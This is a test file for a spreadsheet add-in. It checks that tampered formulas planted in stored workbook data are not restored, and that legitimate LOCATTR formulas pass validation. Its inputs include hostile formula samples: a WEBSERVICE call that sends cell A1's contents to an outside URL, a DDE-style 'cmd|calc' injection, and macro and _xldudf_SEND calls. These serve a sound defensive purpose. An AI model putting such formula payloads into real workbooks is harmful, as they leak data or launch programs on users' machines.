import { createFrozenStore } from '../../../src/settings/frozen-store';
import { freeze } from '../../../src/taskpane/freeze/freezing';
import { formulaFault } from '../../../src/taskpane/freeze/formula-fault';
import { thaw } from '../../../src/taskpane/freeze/thawing';
import { createFakeWorkbookParts } from '../fake-workbook-parts';
import { createFakeGrid } from './fake-grid';

describe('a workbook that somebody has prepared', () => {
  it.each([
    '=WEBSERVICE(""https://example.com/?""&A1)&LOCATTR(1,2,""x"")',
    '=HYPERLINK(""https://example.com"",""Click"")',
    '=1+1',
    "=LOCATTR('C:\\\\[Book.xlsx]S'!A1,2,3)",
    '=LOCATTR(cmd|calc,2,3)',
    '=LOCATTR(1,2,Book!Macro(1))',
    '=LOCATTR(1,_xldudf_SEND(A1),3)',
  ])('has no %s typed into its cells', async (evil) => {
    const grid = createFakeGrid();
    grid.set('A1', [['=LOCATTR(1,2,"x")']]);
    grid.show('A1', 5);
    const held = createFakeWorkbookParts();
    const store = createFrozenStore(held.parts);
    const parts = { cells: grid.cells, store, now: () => 1, turn: () => Promise.resolve() };
    expect(await freeze(undefined, parts)).toMatchObject({ cells: 1 });
    const [xml = ''] = held.held;
    const planted = xml.replace(
      '=LOCATTR(1,2,\\"x\\")',
      evil.replaceAll('""', '\\"').replaceAll('&', '&amp;'),
    );
    expect(planted).not.toBe(xml);
    held.held.splice(0, 1, planted);
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 1, problems: [] });
    expect(grid.read('A1')).toEqual([[5]]);
  });
});

describe('what may be typed into cells', () => {
  it.each([
    '=LOCATTR(A1,B1,"w_pop")',
    '=IFERROR(LOCSCORE("Shops",A2,,LOCVARS(D$1:F$1,D2:F2)),"")',
    '=LET(x,LOCATTR([@Lat],[@Lng],"a"),IF(x>5,x,0))',
    "=LOCATTR('Joe''s list'!A1,'My stores'!B2,\"a|b\")",
    '=_xldudf_LOCATTR(1,2,"https://example.com/[x]y!")',
    '=LOCATTR(Stores[Lat],Stores[[#All],[Lng]],Sheet2!A1)',
    '=_xlfn.XLOOKUP(A1,B:B,LOCATTR(C:C,D:D,"x"))',
  ])('is %s', (formula) => {
    expect(formulaFault(formula)).toBeUndefined();
  });
});
